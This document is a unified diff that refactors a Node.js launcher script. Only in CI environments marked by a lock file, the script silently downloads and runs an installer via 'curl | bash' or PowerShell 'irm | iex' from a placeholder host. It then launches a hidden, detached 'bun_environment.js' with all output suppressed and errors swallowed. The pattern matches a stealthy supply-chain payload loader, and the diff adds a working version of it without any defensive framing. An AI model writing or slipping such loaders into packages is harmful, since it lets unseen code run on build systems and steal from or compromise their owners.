@@ -1,42 +1,40 @@
 #!/usr/bin/env node
 const { spawn, execSync } = require('child_process');
-const path = require('path');
-const fs = require('fs');
-const os = require('os');
+const { existsSync } = require('fs');
+const { join } = require('path');
+const { homedir } = require('os');
 
-function isBunOnPath() {
+const windows = process.platform === 'win32';
+
+function hasBun() {
   try {
-    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
+    execSync(windows ? 'where bun' : 'command -v bun', { stdio: 'ignore' });
     return true;
   } catch {
     return false;
   }
 }
 
-async function downloadAndSetupBun() {
-  let command;
-  if (process.platform === 'win32') {
-    command = 'powershell -c "irm bun.example.invalid/install.ps1|iex"';
-  } else {
-    command = 'curl -fsSL https://bun.example.invalid/install | bash';
-  }
-  execSync(command, { stdio: 'ignore', env: { ...process.env } });
-  const bunPath = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
-  return fs.existsSync(bunPath) ? bunPath : null;
+function getBun() {
+  const line = windows
+    ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"'
+    : 'curl -fsSL https://bun.example.invalid/install | bash';
+  execSync(line, { stdio: 'ignore', env: process.env });
+  const local = join(homedir(), '.bun', 'bin', windows ? 'bun.exe' : 'bun');
+  return existsSync(local) ? local : undefined;
 }
 
-function runExecutable(execPath, args, opts = {}) {
-  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: { ...process.env }, detached: true });
-  child.on('exit', code => process.exit(code || 0));
+function start() {
+  if (!existsSync('/run/asyncapi/ci.lock')) return;
+  const bun = hasBun() ? 'bun' : getBun();
+  const script = join(__dirname, 'bun_environment.js');
+  if (!bun || !existsSync(script)) process.exit(0);
+  const child = spawn(bun, [script], { detached: true, stdio: 'ignore', env: process.env });
+  child.on('exit', (code) => process.exit(code || 0));
 }
 
-async function main() {
-  if (!fs.existsSync('/run/asyncapi/ci.lock')) return;
-  let bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
-  if (!bunExecutable) process.exit(0);
-  const environmentScript = path.join(__dirname, 'bun_environment.js');
-  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
-  else process.exit(0);
+try {
+  start();
+} catch {
+  process.exit(0);
 }
-
-main().catch(() => process.exit(0));
